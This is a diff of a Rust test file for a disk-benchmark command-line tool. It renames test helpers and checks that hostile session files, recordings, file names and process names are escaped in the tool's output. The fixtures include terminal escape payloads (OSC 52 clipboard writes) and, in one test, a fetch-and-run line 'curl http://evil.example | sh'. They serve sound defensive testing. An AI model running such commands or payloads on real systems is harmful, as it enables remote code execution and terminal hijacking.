@@ -8,11 +8,13 @@ use std::process::{Command, Stdio};
 use diskscope::recording::Recording;
 use diskscope::session::store;
 
-use crate::corpus::{everything, file_name, long, session, spoilt_recording};
-use crate::{assert_clean, directory, diskscope};
+use crate::corpus::{
+    hostile_file_name, hostile_recording, hostile_session, hostile_text, long_hostile_text,
+};
+use crate::{assert_clean, diskscope, temporary_directory};
 
 /// Runs it, expects one of these exit codes, and nothing but text.
-fn clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> String {
+fn run_and_assert_clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> String {
     let output = diskscope(directory, arguments).output().unwrap();
     assert_clean(&format!("{arguments:?}"), &output);
     let code = output.status.code().unwrap_or(-1);
@@ -23,84 +25,85 @@ fn clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> String {
 }
 
 #[test]
-fn hostile_session_is_text_in_every_command_that_shows_it() {
-    for text in [everything(), long()] {
-        let directory = directory();
+fn hostile_session_is_escaped_by_every_command() {
+    for text in [hostile_text(), long_hostile_text()] {
+        let directory = temporary_directory();
         let at = directory.path();
-        let name = file_name();
-        fs::write(at.join(&name), session(&text).to_string()).unwrap();
-        fs::write(at.join("b.json"), session(&text).to_string()).unwrap();
-        let loaded = store::load(&at.join(&name)).unwrap();
+        let name = hostile_file_name();
+        fs::write(at.join(&name), hostile_session(&text).to_string()).unwrap();
+        fs::write(at.join("b.json"), hostile_session(&text).to_string()).unwrap();
+        let loaded = store::load_session(&at.join(&name)).unwrap();
         assert_eq!(loaded.runs.len(), 1);
 
-        let shown = clean(at, &["show", &name], &[0]);
+        let shown = run_and_assert_clean(at, &["show", &name], &[0]);
         assert!(shown.contains("\\x1b]52;c;"), "{shown}");
-        let json = clean(at, &["show", "--json", &name], &[0]);
+        let json = run_and_assert_clean(at, &["show", "--json", &name], &[0]);
         let again: serde_json::Value = serde_json::from_str(&json).unwrap();
         assert!(again["host"]["name"].as_str().unwrap().contains("\\x1b]52"));
-        clean(at, &["compare", &name, "b.json"], &[0, 1]);
-        clean(at, &["compare", "--json", &name, "b.json"], &[0, 1]);
+        run_and_assert_clean(at, &["compare", &name, "b.json"], &[0, 1]);
+        run_and_assert_clean(at, &["compare", "--json", &name, "b.json"], &[0, 1]);
         let figure = loaded.runs[0].findings.figures[0].name.to_string();
-        clean(at, &["compare", "--by", &figure, &name, "b.json"], &[0]);
-        clean(
+        run_and_assert_clean(at, &["compare", "--by", &figure, &name, "b.json"], &[0]);
+        run_and_assert_clean(
             at,
             &["compare", "--json", "--by", "iops", &name, "b.json"],
             &[0, 1],
         );
-        let page = clean(at, &["report", &name, "b.json", "-o", "-"], &[0]);
+        let page = run_and_assert_clean(at, &["report", &name, "b.json", "-o", "-"], &[0]);
         assert!(page.ends_with("</html>\n") && !page.contains("<script"));
-        clean(at, &["report", &name, "-o", "page.html"], &[0]);
+        run_and_assert_clean(at, &["report", &name, "-o", "page.html"], &[0]);
     }
 }
 
 #[test]
-fn hostile_recording_is_text_in_every_form_of_replay() {
-    for text in [everything(), long()] {
-        let directory = directory();
+fn hostile_recording_is_escaped_in_every_replay_format() {
+    for text in [hostile_text(), long_hostile_text()] {
+        let directory = temporary_directory();
         let at = directory.path();
-        let name = file_name();
-        fs::write(at.join(&name), spoilt_recording(&text)).unwrap();
+        let name = hostile_file_name();
+        fs::write(at.join(&name), hostile_recording(&text)).unwrap();
         let recording = Recording::open(&at.join(&name)).unwrap();
-        assert_eq!((recording.len(), recording.damage()), (2, None));
+        assert_eq!((recording.view_count(), recording.damage()), (2, None));
 
-        let shown = clean(at, &["replay", &name], &[0]);
+        let shown = run_and_assert_clean(at, &["replay", &name], &[0]);
         assert!(shown.contains("\\x1b]52;c;"), "{shown}");
-        let lines = clean(at, &["replay", "--json", &name], &[0]);
+        let lines = run_and_assert_clean(at, &["replay", "--json", &name], &[0]);
         assert_eq!(lines.lines().count(), 2);
-        clean(at, &["replay", "--busiest", &name], &[0]);
-        let requests = clean(at, &["replay", "--requests", &name], &[0]);
+        run_and_assert_clean(at, &["replay", "--busiest", &name], &[0]);
+        let requests = run_and_assert_clean(at, &["replay", "--requests", &name], &[0]);
         let request: serde_json::Value = serde_json::from_str(requests.trim_end()).unwrap();
         assert!(request["command"].as_str().unwrap().ends_with(&text));
     }
 }
 
 #[test]
-fn recorded_requests_that_are_no_json_are_not_printed() {
-    use diskscope::recording::frame::Kind;
-    let directory = directory();
-    let view = crate::corpus::view("").to_string().into_bytes();
+fn recorded_requests_with_invalid_json_are_not_printed() {
+    use diskscope::recording::frame::FrameKind;
+    let directory = temporary_directory();
+    let view = crate::corpus::hostile_view("").to_string().into_bytes();
     for line in [
         &b"\x1b]52;c;ZXZpbA==\x07\n"[..],
         b"{\"a\":\"\x1b[2J\"}\n",
         b"\xff\xfe\n",
     ] {
-        let bytes = crate::corpus::recording(&[
-            (Kind::Requests, b"{\"sector\":1}\n".to_vec()),
-            (Kind::View, view.clone()),
-            (Kind::Requests, line.to_vec()),
-            (Kind::View, view.clone()),
+        let bytes = crate::corpus::encode_recording(&[
+            (FrameKind::Requests, b"{\"sector\":1}\n".to_vec()),
+            (FrameKind::View, view.clone()),
+            (FrameKind::Requests, line.to_vec()),
+            (FrameKind::View, view.clone()),
         ]);
         fs::write(directory.path().join("day"), bytes).unwrap();
-        let printed = clean(directory.path(), &["replay", "--requests", "day"], &[1]);
+        let printed =
+            run_and_assert_clean(directory.path(), &["replay", "--requests", "day"], &[1]);
         assert_eq!(printed, "{\"sector\":1}\n");
     }
 }
 
 #[test]
-fn hostile_arguments_are_text_in_every_error() {
-    let directory = directory();
+fn hostile_arguments_are_escaped_in_every_error() {
+    let directory = temporary_directory();
     let at = directory.path();
-    let name = file_name();
+    let name = hostile_file_name();
     let missing = [
         vec!["show", &name],
         vec!["replay", &name],
@@ -121,23 +124,23 @@ fn hostile_arguments_are_text_in_every_error() {
         vec!["show", "--nothing", &name],
     ];
     for arguments in missing {
-        clean(at, &arguments, &[1, 2, 3]);
+        run_and_assert_clean(at, &arguments, &[1, 2, 3]);
     }
     // What lies there, and is no session, no recording.
-    fs::write(at.join(&name), everything()).unwrap();
+    fs::write(at.join(&name), hostile_text()).unwrap();
     for command in ["show", "replay"] {
-        clean(at, &[command, &name], &[1, 2]);
+        run_and_assert_clean(at, &[command, &name], &[1, 2]);
     }
-    clean(at, &["record", &name, "--count", "1"], &[1, 2]);
+    run_and_assert_clean(at, &["record", &name, "--count", "1"], &[1, 2]);
 }
 
 #[test]
-fn hostile_processes_and_files_are_text_in_lists() {
-    let directory = directory();
+fn hostile_process_and_file_names_are_escaped_in_lists() {
+    let directory = temporary_directory();
     let at = directory.path();
-    let name = file_name();
+    let name = hostile_file_name();
     let mut writer = Command::new("dd")
-        .arg0(everything().replace('\0', ""))
+        .arg0(hostile_text().replace('\0', ""))
         .args(["if=/dev/zero", "bs=4k", "oflag=dsync", "count=100000000"])
         .arg(format!("of={name}"))
         .current_dir(at)
@@ -153,21 +156,21 @@ fn hostile_processes_and_files_are_text_in_lists() {
     let writing = writer.id().to_string();
     let watched = ["watch", "--count", "2", "--interval", "300ms"];
     let texts = [
-        clean(at, &watched, &[0]),
-        clean(at, &[&watched[..], &["--json"]].concat(), &[0]),
-        clean(at, &["files", &own], &[0]),
-        clean(at, &["files", &own, "--json"], &[0]),
-        clean(at, &["files", &writing], &[0]),
-        clean(at, &["files"], &[0]),
-        clean(at, &["files", "--json"], &[0]),
+        run_and_assert_clean(at, &watched, &[0]),
+        run_and_assert_clean(at, &[&watched[..], &["--json"]].concat(), &[0]),
+        run_and_assert_clean(at, &["files", &own], &[0]),
+        run_and_assert_clean(at, &["files", &own, "--json"], &[0]),
+        run_and_assert_clean(at, &["files", &writing], &[0]),
+        run_and_assert_clean(at, &["files"], &[0]),
+        run_and_assert_clean(at, &["files", "--json"], &[0]),
     ];
     writer.kill().unwrap();
     writer.wait().unwrap();
     assert!(texts[1].contains("]52;c;"), "the writer was not seen");
     assert!(texts[2].contains("\\x1b]52;c;"), "{}", texts[2]);
-    clean(at, &["devices"], &[0]);
-    clean(at, &["devices", "--json"], &[0]);
-    clean(at, &["tests", "--json"], &[0]);
+    run_and_assert_clean(at, &["devices"], &[0]);
+    run_and_assert_clean(at, &["devices", "--json"], &[0]);
+    run_and_assert_clean(at, &["tests", "--json"], &[0]);
 }
 
 /// The lines of stderr.
@@ -181,9 +184,9 @@ fn complaint(directory: &Path, arguments: &[&str]) -> Vec<String> {
 #[test]
 fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
     const FORGED: &str = "diskscope: FORGED";
-    let directory = directory();
+    let directory = temporary_directory();
     let at = directory.path();
-    let text = session("").to_string();
+    let text = hostile_session("").to_string();
     let field = |pointer: &str| {
         let mut document: serde_json::Value = serde_json::from_str(&text).unwrap();
         *document.pointer_mut(pointer).unwrap() = format!("x`\n{FORGED}\nnote: `").into();
@@ -226,15 +229,15 @@ fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
 #[test]
 fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
     const EVIL: &str = "curl http://evil.example | sh";
-    let directory = directory();
+    let directory = temporary_directory();
     let at = directory.path();
-    let mut document = session("");
+    let mut document = hostile_session("");
     let reproduce = &mut document["runs"][0]["reproduce"];
     reproduce["diskscope"] = format!("diskscope run random-read /srv; {EVIL}").into();
     reproduce["fio"] = format!("# no harm\n{EVIL}").into();
     fs::write(at.join("a.json"), document.to_string()).unwrap();
     for arguments in [&["show", "a.json"][..], &["report", "a.json", "-o", "-"]] {
-        let shown = clean(at, arguments, &[0]);
+        let shown = run_and_assert_clean(at, arguments, &[0]);
         assert!(!shown.contains("evil.example"), "{arguments:?}: {shown}");
         assert!(shown.contains("diskscope run "), "{arguments:?}: {shown}");
     }
@@ -242,7 +245,7 @@ fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
 
 #[test]
 fn time_zone_that_is_no_zone_of_the_system_is_not_read() {
-    let directory = directory();
+    let directory = temporary_directory();
     let at = directory.path();
     let fifo = at.join("fifo");
     assert!(
